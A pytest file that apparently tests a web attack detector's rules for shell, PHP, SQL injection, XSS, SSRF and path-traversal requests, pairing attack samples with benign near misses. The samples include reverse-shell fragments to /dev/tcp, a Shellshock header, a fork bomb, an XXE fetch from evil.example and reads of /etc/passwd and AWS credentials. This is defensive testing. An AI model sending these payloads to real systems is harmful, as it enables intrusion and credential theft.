"""Rules for whole-value command lines, PHP call shapes, SQL fragments and smaller probes
(:mod:`rules_shell`, :mod:`rules_php`, :mod:`rules_sqlfrag`, :mod:`rules_probes`).

Each rule gets requests that must fire it, written from the technique it names, and near misses an
ordinary user, crawler or API client sends that must not (checked at the highest paranoia level, so
a near miss proves the pattern itself, not the level, keeps it quiet). Requests go through the whole
detector, so the prefilter, the decoding and the part splitting are exercised too.
"""

from __future__ import annotations

import re

import pytest

from watchhouse.detectors.web import rules_php, rules_probes, rules_shell, rules_sqlfrag
from watchhouse.detectors.web.engines import hyperscan_available
from watchhouse.detectors.web.rules import default_rules

from .rule_cases import Case, Row, agent, check_case, engine_hits, fired, get, header, post

# (rule, requests that must fire it, requests that must not)
CASES: list[Case] = [
    (
        "WH-SHELL-001",
        [get("/x?cmd=ls+-la+%2Fvar%2Fwww"), post("c=dd+if%3D%2Fdev%2Fsda+of%3Dx"), agent("cat /etc/hosts")],
        [get("/s?q=cat+food+for+kittens"), get("/s?q=find+my+order"), agent("curl/8.5.0")],
    ),
    (
        "WH-SHELL-002",
        [post("code=ansible-playbook+site.yml"), get("/x?c=cscli+decisions+list"), agent("time visudo")],
        [get("/s?q=chef+recipes"), agent("ansible-httpget"), get("/s?q=busy+box+office")],
    ),
    (
        "WH-SHELL-003",
        [post("host=example.org%3Bcolumn+%2Fetc%2Fpasswd"), get("/x?h=a%7Cbase32+-d"), get("/x?h=1%26%26cd+%2Ftmp")],
        [
            get("/s?q=books+%26+more"),
            get("/s?q=B%26W+photos"),
            agent("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0; touch)"),
        ],
    ),
    (
        "WH-SHELL-004",
        [post("sentence=sort+the+list"), get("/x?v=top")],
        [get("/s?q=best+sorting+hat"), get("/s?q=topology")],
    ),
    (
        "WH-SHELL-005",
        [get("/x?foo=time+who"), get("/x?foo=nohup+ls")],
        [get("/s?q=time+flies"), get("/s?q=nohup+meaning")],
    ),
    (
        "WH-SHELL-006",
        [
            get("/contact?to=a%40b.example%0d%0aRCPT+TO%3A%3Cvictim%40c.example%3E"),
            post("m=x%0D%0AEHLO+evil.example"),
        ],
        [post("comment=line+one%0D%0Amail+from+grandma"), get("/contact?to=a%40b.example")],
    ),
    (
        "WH-SHELL-007",
        [post("t=x%0d%0aa001+SELECT+INBOX"), get("/m?x=%0d%0aRETR+1")],
        [post("comment=list%0D%0Aselect+the+best"), get("/m?x=retrieve+1")],
    ),
    (
        "WH-SHELL-008",
        [get("/m?x=%0d%0aQUIT"), post("t=a%0aNOOP")],
        [post("comment=we+quit%0D%0Atoday+early"), get("/m?x=help")],
    ),
    (
        "WH-SHELL-009",
        [agent(";cp /var/log/apache2/error.log /var/www/x.php"), agent("a;env")],
        [agent("Mozilla/5.0 (Linux; Android 14; id) AppleWebKit/537.36"), agent("Mozilla/5.0 (compatible; env)")],
    ),
    (
        "WH-SHELL-010",
        [get("/x?c=exec+5%3C%3E%2Fdev%2Ftcp%2F198.51.100.7%2F4444"), post("c=sh+%3E%24d%2Ftcp%2F198.51.100.7%2F80")],
        [get("/docs/dev/tcp-tuning"), get("/x?p=%2Fdev%2Fnull")],
    ),
    (
        "WH-SHELL-011",
        [get("/x?ip=%3B%24a+cat+x.txt"), post("c=a%3D1%26%26%24c+%24a")],
        [get("/s?q=price%3B+%24+sign"), get("/x?q=%24USD+rate")],
    ),
    (
        "WH-SHELL-012",
        [post("var=%60cut+-d%3A+-f1+x%60"), get("/x?v=%24(dig+evil.example)")],
        [post("md=use+%60cut%60+to+trim"), get("/x?v=%24(price)")],
    ),
    (
        "WH-PHP-007",
        [get("/x?f=fopen+%2F*x*%2F+(%27a%27)"), get("/x?f=FOOcall_user_func()"), get("/x?f=strrev%09(%24a)")],
        [get("/s?q=fopen+manual"), get("/s?q=call+user+function")],
    ),
    (
        "WH-PHP-008",
        [get("/x?f=exec%0d%0a(%24cmd)"), get("/x?f=system(%27id%27)"), get("/x?f=eval++(blah)")],
        [get("/s?q=file+(attached)"), get("/s?q=touch+(screen)")],
    ),
    (
        "WH-PHP-009",
        [post("a=%24_GET%5B0%5D(%24_GET%5B1%5D)"), post("a=%24obj-%3E%24method()"), post("a=%24f%0d%0a+(1)")],
        [post("price=%2410+(approx)"), post("tpl=%24%7Bname%7D")],
    ),
    (
        "WH-PHP-010",
        [get("/x?x=(system)(ls)%3B"), get("/x?x=%22system%22(ls)%3B"), get("/x?x=%22%5Cx73ystem%22(id)")],
        [get("/s?q=(system)+requirements"), get("/s?q=%22system%22+design")],
    ),
    (
        "WH-PHP-011",
        [
            get("/x?t=%7Bphp%7Decho+1%7B%2Fphp%7D"),
            get("/x?t=%5Bphp%5Dphpinfo()%5B%2Fphp%5D"),
            get("/x?t=test%3C%3F"),
        ],
        [get("/s?q=php+tutorial"), get("/s?q=what%3F")],
    ),
    (
        "WH-PHP-012",
        [post("v=auto_prepend_file%3D%2Ftmp%2Fx"), post("v=opcache.enable%3D0")],
        [post("v=session+expired"), post("engine=v8")],
    ),
    (
        "WH-PHP-013",
        [header("X-Filename", "sess_k2l3m4n5o6p7q8r9s0t1"), header("X-File-Name", "/tmp/sess_abcdefghijklmnop")],
        [header("X-Filename", "session-notes.txt"), header("X-Filename", "sess_short")],
    ),
    (
        "WH-PHP-014",
        [get("/x?file=ssh2.exec%3A%2F%2Fu%3Ap%40example.org%3A22%2Fid")],
        [get("/docs/ssh2-extension")],
    ),
    (
        "WH-PHP-015",
        [get("/x?f=ldap_get_entries()"), get("/x?f=sodium_crypto_box+(")],
        [get("/s?q=ldap_get_entries+manual"), get("/s?q=snake_case")],
    ),
    (
        "WH-SQLI-028",
        [post("c=%29+AS+total+FROM"), post("c=%60+AS+%60user_id%60+from")],
        [post("q=known+as+the+king+from+memphis"), post("q=as+seen+from+space")],
    ),
    (
        "WH-SQLI-029",
        [post("sort=ORDER+BY"), post("op=XOR"), post("op=IS+NOT+NULL"), post("p=execute+sp_who")],
        [post("q=order+by+phone"), post("q=exclusive+or")],
    ),
    (
        "WH-SQLI-030",
        [post("pay=FLOOR+%28"), post("pay=values+%28")],
        [post("q=floor+plan+(new)"), post("q=value+(usd)")],
    ),
    (
        "WH-SQLI-031",
        [get("/i?id=1+and+ascii(select+1)"), get("/i?id=1+in+(2147483647%2C-1)")],
        [get("/s?q=in+(the+end)"), get("/s?q=count+(of+monte+cristo)")],
    ),
    (
        "WH-SQLI-032",
        [post("e=user%27collate+nocase--"), post("e=%27+notnull+--")],
        [post("q=it%27s+not+easy+--+really"), post("q=o%27neil")],
    ),
    (
        "WH-SQLI-033",
        [post("v=a%27or%27a"), post("v=%27%7C%7Ctrue"), post("v=%27+or+json_valid+(id)%3B")],
        [post("q=rock+%27n%27+roll"), post("q=%27cats%27+or+%27dogs%27"), post("q=either+or")],
    ),
    (
        "WH-SQLI-034",
        [post("q=%27x%27!%3D%27y"), post("u=%27admin%27%2C+%271%27%3D%271%27")],
        [post("q=%27hello%27+world"), post("q=a%3Db")],
    ),
    (
        "WH-SQLI-035",
        [get("/x?a=1%27%3D%271"), get("/x?a=11!%3D1"), get("/x?v=or+88"), get("/x?a=1%3C%3E2")],
        [get("/x?a=1"), get("/x?v=or+else"), get("/search?q=1%3D1"), get("/search?q=2%3E%3D1")],
    ),
    (
        "WH-SQLI-036",
        [post("a=CREATE+TABLE+t+(a+int)"), post("a=declare+%40b+int"), post("a=SELECT+(CASE+WHEN")],
        [post("q=create+table+reservations+online"), post("q=declare+income")],
    ),
    (
        "WH-SQLI-037",
        [get("/i?id=password%3A%3Aint"), get("/i?id=lo_get(16400)"), get("/i?p=utl_http.request")],
        [get("/s?q=c%2B%2B+std%3A%3Avector"), get("/s?q=utility+http")],
    ),
    (
        "WH-SQLI-038",
        [post("x=%27+union%2F"), post("x=%22+ALTER+TABLE")],
        [post("q=union+square"), post("q=alter+ego")],
    ),
    (
        "WH-SQLI-039",
        [get("/api/users?user__profile__icontains=adm"), post('{"a__b__startswith": "x"}', "application/json")],
        [get("/api/users?user_profile=adm"), get("/api/users?__init__=1")],
    ),
    (
        "WH-SQLI-040",
        [get("/api/users?username__startswith=p"), get("/api/users?email__iexact=a%40b.example")],
        [get("/api/users?username=p"), get("/api/items?__gte=1")],
    ),
    (
        "WH-SQLI-041",
        [post("x=%2F3+or+"), post("x=%40example.com%26name%3D(select"), post("x=case+when+1+then")],
        [post("q=this+or+that"), post("q=either+or"), post("q=in+case+of+rain"), post("q=drop+shipping")],
    ),
    (
        "WH-SQLI-042",
        [get("/x?v=4294967296"), get("/x?t=9999+or+%2F*%2Bhint*%2F+true"), post("t=nvarchar")],
        [get("/x?v=429496"), post("t=varnish")],
    ),
    (
        "WH-SQLI-043",
        [post("p=%27%3A0%3A6"), post("p=%60%3E65")],
        [post("p=tom"), post("p=2024-01-01")],
    ),
    (
        "WH-SQLI-044",
        [post("v=((((((()))))))"), post("v=!%40%23%24%25%5E%26*()")],
        [post("v=a+(b)+c"), post("v=hello.world")],
    ),
    (
        "WH-SQLI-045",
        [post("v=!%40"), post("v=a%3Cb%3E")],
        [post("v=hello+world"), post("v=12345")],
    ),
    (
        "WH-CMDI-018",
        [get("/x?h=c%24%40at+%2Fet%24%40c%2Fpasswd"), get("/x?x=pi%60%60ng+127.0.0.1")],
        [get("/x?price=US%245"), get("/x?q=%24_POST+tutorial")],
    ),
    (
        "WH-CMDI-019",
        [post("cmd=f()%7B+f%7Cf%26+%7D%3Bf"), agent("x(){ x|x& };x")],
        [post("q=hello()+%7B+world+%7D"), post("q=f()+%7B")],
    ),
    (
        "WH-CMDI-020",
        [get("/x?a=%7B%2Cip%2Ca%7D"), get("/x?a=c%7Ba%2Coun%7Dt")],
        [get("/x?tpl=%7Ba%2Cb%7D"), get("/x?json=%7B%22a%22%3A1%7D")],
    ),
    (
        "WH-CMDI-021",
        [get("/x?d=~%2B"), get("/x?d=~-1")],
        [get("/x?d=~"), get("/x?d=~user")],
    ),
    (
        "WH-CMDI-022",
        [get("/x?q=1%3B.shell+id"), get("/x?q=x%3B+.system+id")],
        [get("/s?q=shell.com"), get("/s?q=end.+shell+out")],
    ),
    (
        "WH-CMDI-023",
        [header("X-Test", "() { ignored; }"), get("/x?a=%28%29+%7B")],
        [header("X-Test", "(see above) { }"), get("/x?a=f()+%7B")],
    ),
    (
        "WH-RFI-003",
        [
            get("/x?u=http%3A%2F%2Fexample.com%40evil.example%2F"),
            get("/x?u=ftp%3A%2F%2Ffiles.example"),
            get("/x?u=jar%3Ahttp%3A%2F%2Fe.example%2Fa.zip!b"),
        ],
        [get("/x?u=https%3A%2F%2Fshop.example%2Fcart"), get("/x?u=https%3A%2F%2Fmastodon.example%2F%40user")],
    ),
    (
        "WH-RFI-004",
        [get("/proxy/https://evil.example/x")],
        [get("/docs/https-guide")],
    ),
    (
        "WH-SSRF-007",
        [get("/f?u=http%3A2852039166"), get("/f?u=http%3A%2F0251.0376.0251.0376"), get("/f?u=lvh.me%2F")],
        [get("/f?u=https%3A%2F%2Fexample.com%2F"), get("/f?phone=2852039166")],
    ),
    (
        "WH-PATH-008",
        [agent("/root/.aws/credentials"), get("/x?f=%2Fproc%2Finterrupts"), get("/x?f=%2Fetc%2Fsubuid")],
        [agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64)"), get("/x?f=%2Fsys-admin-guide")],
    ),
    (
        "WH-PATH-009",
        [get("/backup.sql.zip"), get("/wp-content/debug.log"), get("/x?f=..%5Cwin.txt")],
        [get("/docs/sql-zip-guide"), get("/wp-content/uploads/log.png")],
    ),
    (
        "WH-XSS-014",
        [get("/x?a=alert()"), post("a=document.querySelector(%22p%22)")],
        [get("/s?q=alert+me"), get("/settings?section=alert+%28email%29"), post("a=document+scanner")],
    ),
    (
        "WH-XSS-015",
        [
            agent("x<!ENTITY % ent SYSTEM 'http://evil.example/x'>"),
            post("x=%3C!ENTITY+a+SYSTEM+%22file%3A%2F%2F%2F%22"),
        ],
        [agent("Mozilla/5.0 (entity browser)"), post("x=entity+system")],
    ),
    (
        "WH-XSS-016",
        [post("c=--%3E%3Cimg"), post("c=x--%3E")],
        [post("c=a+-%3E+b"), post("c=a+--+b")],
    ),
    (
        "WH-XSS-017",
        [get("/x?%20%20onload%3d%20=1"), get("/x?a=+onmouseover%3D")],
        [get("/x?q=online"), get("/x?q=on+time")],
    ),
    (
        "WH-JAVA-006",
        [post("x=java.lang.Runtime"), post("x=java.evil.ProcessBuilder")],
        [post("x=java.util.List"), post("x=javascript+runtime")],
    ),
    (
        "WH-PROTO-009",
        [get("/x?a=test%0Dnext%3Dmore"), get("/x?a=b&%0d%0aX-Forwarded-For:%201.2.3.4")],
        [get("/x?a=line%20one"), get("/x?a=b%0d%0a")],
    ),
]


@pytest.mark.parametrize(("rule_id", "positives", "near_misses"), CASES, ids=[c[0] for c in CASES])
def test_rule_fires_on_its_technique_and_not_on_the_near_miss(
    rule_id: str, positives: list[Row], near_misses: list[Row]
) -> None:
    check_case(rule_id, positives, near_misses)


def test_every_rule_of_these_modules_has_cases() -> None:
    ids = {rule.id for module in (rules_shell, rules_php, rules_sqlfrag, rules_probes) for rule in module.RULES}
    assert ids == {rule_id for rule_id, _, _ in CASES}


def test_noisy_shapes_wait_for_the_paranoid_levels() -> None:
    rules = default_rules()
    paranoid = {"WH-SHELL-004", "WH-SHELL-005", "WH-SHELL-008", "WH-PHP-015", "WH-SQLI-038", "WH-SQLI-040"}
    paranoid |= {"WH-SQLI-043", "WH-SQLI-044", "WH-SQLI-045", "WH-XSS-016", "WH-RFI-004"}
    assert all(rules.by_id(rule_id).paranoia >= 3 for rule_id in paranoid)
    assert all(rules.by_id(rule_id).paranoia <= 2 for rule_id, _, _ in CASES if rule_id not in paranoid)


def test_module_symptoms_compile_and_flag_their_raw_values() -> None:
    # the prefilter may OR these in: each must accept the raw text of a value its rules are written for
    samples = {
        rules_php: ["var=opcache.jit_buffer_size%3d50", "sess_0123456789abcdefghij", "ssh2.shell://h"],
        rules_sqlfrag: ["a=1=1", "x=ORder+by", "p=utl_http", "q=IS+NOT+NULL"],
        rules_probes: ["d=~%2B", "/proc/interrupts", "u__name__icontains=x", "x=java.Runtime"],
    }
    for module, values in samples.items():
        pattern = re.compile(module.SYMPTOMS, re.IGNORECASE)
        assert all(pattern.search(value) for value in values), module.__name__


@pytest.mark.skipif(not hyperscan_available(), reason="the hyperscan wheel is not installed here")
def test_both_engines_agree_on_these_rules() -> None:
    fast, slow = engine_hits(CASES, 4)
    assert fast and fast == slow


def test_a_lone_ampersand_before_a_bare_word_is_prose() -> None:
    # WH-CMDI-001: "books & more" is a shop's menu; "127.0.0.1&id" glues the command to the separator
    quiet, glued, spaced = fired(
        [get("/s?q=books+%26+more&n=o%27neil"), get("/x?ip=127.0.0.1%26id"), get("/x?ip=1%26+cat+%2Fetc%2Fhosts")], 4
    )
    assert "WH-CMDI-001" not in quiet
    assert "WH-CMDI-001" in glued and "WH-CMDI-001" in spaced
